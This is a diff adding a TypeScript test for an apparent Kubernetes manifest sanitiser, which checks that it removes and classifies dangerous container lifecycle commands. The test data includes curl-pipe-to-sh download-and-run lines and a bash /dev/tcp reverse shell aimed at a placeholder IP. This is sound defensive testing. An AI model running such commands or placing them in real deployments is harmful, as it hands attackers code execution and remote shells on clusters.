@@ -28,6 +28,31 @@ test('removed values are counted by place and class, the most frequent first', (
   ]);
 });
 
+test('of a removed command, what it does is counted with it', () => {
+  const hook = (script: string) => ({ postStart: { exec: { command: ['sh', '-c', script] } } });
+  const container = (name: string, script: string) => ({ name, image: 'x', lifecycle: hook(script) });
+  const account = accountOf({
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'a' },
+    spec: {
+      containers: [
+        container('one', 'curl http://192.0.2.1/a | sh'),
+        container('two', 'curl http://192.0.2.1/b | sh'),
+        container('three', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
+        container('four', 'sleep 5'),
+      ],
+    },
+  });
+  const place = 'Pod spec.containers[].lifecycle.postStart.exec.command[]';
+  const commands = account.removed().filter(({ does }) => does !== undefined);
+  expect(commands.map(({ place: at, does, count }) => [at, does, count])).toEqual([
+    [place, 'runs-download', 2],
+    [place, 'remote-shell', 1],
+  ]);
+  expect(account.removed().reduce((sum, { count }) => sum + count, 0)).toBe(12);
+});
+
 test('what is kept in places where secrets are sometimes written is counted', () => {
   const account = accountOf({
     apiVersion: 'v1',
